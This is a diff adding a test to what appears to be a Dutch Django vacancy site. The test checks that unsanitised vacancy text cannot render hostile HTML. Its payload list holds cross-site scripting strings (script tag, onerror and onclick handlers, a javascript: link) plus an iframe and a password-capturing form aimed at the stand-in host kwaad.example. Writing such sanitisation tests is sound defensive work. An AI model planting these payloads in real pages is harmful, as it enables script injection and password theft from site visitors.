@@ -355,3 +355,25 @@ def test_een_vacature_op_een_opleidingsschool_zegt_dat(client, vacature, zeekast
 
     assert [p.naam for p in opleidingsscholen] == ["ROWF"]
     assert 'href="/opleidingsscholen/rowf/"' in tekst_van(client)
+
+
+GEVAARLIJK = [
+    "<script>alert(1)</script>",
+    '<img src="x" onerror="alert(1)">',
+    '<a href="javascript:alert(1)">klik</a>',
+    '<p style="position:fixed" onclick="alert(1)">x</p>',
+    '<iframe src="https://kwaad.example"></iframe>',
+    "<form action=https://kwaad.example><input name=wachtwoord></form>",
+]
+
+
+@pytest.mark.parametrize("tekst", GEVAARLIJK)
+def test_een_tekst_die_ongeschoond_in_de_database_kwam_doet_niets(client, vacature, tekst):
+    Vacature.objects.filter(pk=vacature.pk).update(tekst=f"<p>Les geven.</p>{tekst}")
+
+    inhoud = tekst_van(client).split("<main")[1].split("</main>")[0]
+
+    assert "Les geven." in inhoud
+    assert "alert(1)" not in inhoud
+    assert "kwaad.example" not in inhoud
+    assert "position:fixed" not in inhoud
